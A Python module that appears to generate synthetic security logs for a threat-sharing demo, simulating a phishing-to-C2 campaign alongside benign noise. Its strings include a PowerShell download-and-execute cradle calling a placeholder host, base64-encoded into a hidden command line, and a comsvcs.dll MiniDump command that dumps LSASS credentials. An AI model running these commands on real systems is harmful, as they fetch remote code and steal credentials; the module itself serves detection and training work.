"""The demo's campaign: one actor, several members, five stages, and the quiet around them.

An actor sends an invoice with a macro to two members; Word starts an encoded PowerShell
stager that fetches its payload; at the first member it dumps LSASS with ``comsvcs.dll``
and moves to a second host with PsExec; every infected host then beacons to the same C2
domain — which is how the coalition links the members' incidents into one campaign, and
what the indicator shared under TLP:AMBER lets the members not yet hit find in their own
traffic. :func:`noise_records` is the ordinary traffic of every member around it.
"""

from __future__ import annotations

import base64
import enum
import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

from shieldwall.demo import network, windows
from shieldwall.demo.coalition import COALITION, DemoMember

C2_DOMAIN = "cdn.telemetry-sync.example.net"
C2_ADDRESS = "198.51.100.23"
STAGER_HOST = "docs-share.example.org"
STAGER_ADDRESS = "203.0.113.66"
PAYLOAD_SHA256 = "5f1d3b0c4e8a9f27b6c1d0e2f3a4b5c6d7e8f90112233445566778899aabbccdd"
BEACON_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Telemetry/2.1"


class Stage(enum.Enum):
    """The campaign's steps, each with the ATT&CK technique it shows."""

    PHISHING = "T1566.001"
    EXECUTION = "T1059.001"
    CREDENTIALS = "T1003.001"
    LATERAL = "T1021.002"
    C2 = "T1071.001"


@dataclass(frozen=True)
class CampaignPlan:
    """When the campaign starts, which members it reaches, and how each run varies."""

    start: datetime
    seed: int = 7
    full_chain: tuple[str, ...] = ("cert-nordia",)
    """Members hit by every stage, credential theft and lateral movement included."""
    phished: tuple[str, ...] = ("gridco",)
    """Members phished too, whose hosts then beacon, without the later stages."""
    beacon_only: tuple[str, ...] = ("milcsirt", "cert-westmark")
    """Members with a host already beaconing: found only by the shared indicator."""
    beacons: int = 6
    """Beacons per infected host (one a minute)."""


def _member(org_id: str) -> DemoMember:
    return next(member for member in COALITION if member.org_id == org_id)


_STAGER = (
    "$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Telemetry/2.1');"
    f"IEX $c.DownloadString('http://{STAGER_HOST}/s/update.ps1')"
)
ENCODED_STAGER = base64.b64encode(_STAGER.encode("utf-16-le")).decode()


class _Writer:
    """Records of one member, with its record numbers and the clock of the story."""

    def __init__(self, member: DemoMember, start: datetime) -> None:
        self.member = member
        self.moment = start
        self.record = 10_000
        self.found: list[tuple[str, Stage | None, dict[str, Any]]] = []

    def add(self, stage: Stage | None, record: dict[str, Any], after: float = 1.0) -> None:
        self.moment += timedelta(seconds=after)
        self.record += 1
        self.found.append((self.member.org_id, stage, record))


def _phishing(w: _Writer, host: str, user: str) -> None:
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    w.add(Stage.PHISHING, windows.process_creation(
        w.moment, host, w.record, image=word, user=user, pid=5120, parent_pid=4388,
        command_line=f'"{word}" /n "C:\\Users\\{user.split(chr(92))[-1]}\\AppData\\Local\\'
        'Microsoft\\Windows\\INetCache\\Content.Outlook\\Q3_invoice_4471.docm" /o ""',
        parent_image=outlook, parent_command_line=f'"{outlook}"',
    ))  # fmt: skip
    w.add(Stage.PHISHING, windows.process_creation(
        w.moment, host, w.record, user=user, pid=6240, parent_pid=5120,
        image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        command_line=f"powershell.exe -NoP -W Hidden -NonI -Enc {ENCODED_STAGER}",
        parent_image=word, parent_command_line=f'"{word}" /n',
    ), after=2.0)  # fmt: skip


def _execution(w: _Writer, host: str, user: str, address: str) -> None:
    powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    w.add(Stage.EXECUTION, windows.network_connection(
        w.moment, host, w.record, image=powershell, pid=6240, user=user, source_ip=address,
        source_port=51012, destination_ip=STAGER_ADDRESS, destination_port=80,
        destination_host=STAGER_HOST,
    ))  # fmt: skip
    w.add(Stage.EXECUTION, network.zeek_http(
        w.moment, address, STAGER_ADDRESS, STAGER_HOST, "/s/update.ps1", BEACON_AGENT, size=48_211
    ), after=0.2)  # fmt: skip
    w.add(Stage.EXECUTION, windows.process_creation(
        w.moment, host, w.record, user=user, pid=6512, parent_pid=6240, image=powershell,
        command_line="powershell.exe -NoP -W Hidden -C \"IEX (New-Object Net.WebClient)."
        f"DownloadString('http://{STAGER_HOST}/s/stage2.ps1')\"",
        parent_image=powershell, parent_command_line="powershell.exe -NoP -W Hidden -NonI -Enc",
    ), after=3.0)  # fmt: skip


def _credentials(w: _Writer, host: str, user: str) -> None:
    rundll = "C:\\Windows\\System32\\rundll32.exe"
    w.add(Stage.CREDENTIALS, windows.process_creation(
        w.moment, host, w.record, user=user, pid=7010, parent_pid=6512, image=rundll,
        command_line=f"{rundll} C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 "
        "C:\\Users\\Public\\perf.dmp full",
        parent_image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        parent_command_line="powershell.exe -NoP -W Hidden",
    ), after=40.0)  # fmt: skip
    w.add(Stage.CREDENTIALS, windows.process_access(
        w.moment, host, w.record, source_image=rundll, source_pid=7010, target_pid=684,
        target_image="C:\\Windows\\system32\\lsass.exe", granted_access="0x1FFFFF",
        call_trace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\comsvcs.dll+3b2c1"
        "|C:\\Windows\\System32\\dbghelp.dll+1a2b3",
    ), after=0.1)  # fmt: skip


def _lateral(w: _Writer, source: str, target: str, source_address: str) -> None:
    w.add(Stage.LATERAL, windows.logon(
        w.moment, target, w.record, user="svc_backup", domain=w.member.domain.split(".")[0].upper(),
        logon_type=3, source_ip=source_address, workstation=source.split(".")[0],
    ), after=55.0)  # fmt: skip
    w.add(Stage.LATERAL, windows.service_installed(
        w.moment, target, w.record, service="PSEXESVC", image_path="%SystemRoot%\\PSEXESVC.exe"
    ), after=0.5)  # fmt: skip


def _beacons(w: _Writer, host: str, address: str, resolver: str, count: int) -> None:
    w.add(
        Stage.C2, network.zeek_dns(w.moment, address, resolver, C2_DOMAIN, [C2_ADDRESS]), after=20
    )
    for _ in range(count):
        w.add(Stage.C2, network.zeek_conn(
            w.moment, address, C2_ADDRESS, 443, 1_211, 4_386, 0.84, service="ssl"
        ), after=60.0)  # fmt: skip
    w.add(Stage.C2, network.eve_alert(
        w.moment, address, C2_ADDRESS, 443, 2_900_117,
        "SHIELDWALL DEMO Telemetry-Sync beacon TLS SNI", "A Network Trojan was detected", 1,
    ), after=0.3)  # fmt: skip


def campaign_records(plan: CampaignPlan) -> list[tuple[str, Stage | None, dict[str, Any]]]:
    """Every record the campaign leaves, as (member, stage, record), in time order."""
    found: list[tuple[datetime, str, Stage | None, dict[str, Any]]] = []
    rng = random.Random(plan.seed)  # noqa: S311 - reproducible story, no secret
    for offset, org_id in enumerate((*plan.full_chain, *plan.phished, *plan.beacon_only)):
        member = _member(org_id)
        w = _Writer(member, plan.start + timedelta(minutes=5 * offset, seconds=rng.randint(0, 50)))
        number = rng.randint(10, 200)
        host, address = member.host(number), member.address(number)
        resolver = member.address(0)
        user = f"{member.domain.split('.')[0].upper()}\\{member.people[-1].email.split('@')[0]}"
        if org_id not in plan.beacon_only:
            _phishing(w, host, user)
            _execution(w, host, user, address)
        if org_id in plan.full_chain:
            _credentials(w, host, user)
            _lateral(w, host, member.host(number + 1), address)
        _beacons(w, host, address, resolver, plan.beacons)
        found.extend((time_of(r), o, s, r) for o, s, r in w.found)
    found.sort(key=lambda item: item[0])
    return [(org_id, stage, record) for _, org_id, stage, record in found]


def time_of(record: dict[str, Any]) -> datetime:
    """When a generated record says it happened, whichever sensor wrote it."""
    if "@timestamp" in record:
        return datetime.fromisoformat(str(record["@timestamp"]).replace("Z", "+00:00"))
    if "ts" in record:
        return datetime.fromtimestamp(float(record["ts"]), tz=UTC)
    return datetime.fromisoformat(str(record["timestamp"]).replace("+0000", "+00:00"))


_ORDINARY = (
    ("C:\\Windows\\explorer.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer'),
    ("C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\svchost.exe",
     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    ("C:\\Windows\\explorer.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
     '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /e'),
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\taskhostw.exe",
     "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly"),
)  # fmt: skip
_BENIGN_DOMAINS = ("intranet", "mail", "wiki", "updates", "sso", "files")


def noise_records(
    member: DemoMember, start: datetime, count: int, seed: int = 11
) -> Iterator[dict[str, Any]]:
    """Ordinary activity of one member: programs starting, look-ups, connections inside."""
    rng = random.Random(f"{seed}/{member.org_id}")  # noqa: S311 - reproducible story, no secret
    moment = start
    for index in range(count):
        moment += timedelta(milliseconds=rng.randint(50, 900))
        number = rng.randint(10, 240)
        host, address = member.host(number), member.address(number)
        kind = index % 3
        if kind == 0:
            parent, image, command = _ORDINARY[rng.randrange(len(_ORDINARY))]
            user = f"{member.domain.split('.')[0].upper()}\\user{number}"
            yield windows.process_creation(
                moment, host, 20_000 + index, image=image, command_line=command,
                parent_image=parent, parent_command_line=parent, user=user,
                pid=rng.randint(1000, 30000), parent_pid=rng.randint(500, 999),
            )  # fmt: skip
        elif kind == 1:
            name = f"{_BENIGN_DOMAINS[rng.randrange(len(_BENIGN_DOMAINS))]}.{member.domain}"
            yield network.zeek_dns(moment, address, member.address(0), name, [member.address(1)])
        else:
            yield network.zeek_conn(
                moment, address, member.address(rng.randint(1, 9)), 443,
                rng.randint(300, 5000), rng.randint(300, 90_000), rng.random() * 3, service="ssl",
            )  # fmt: skip
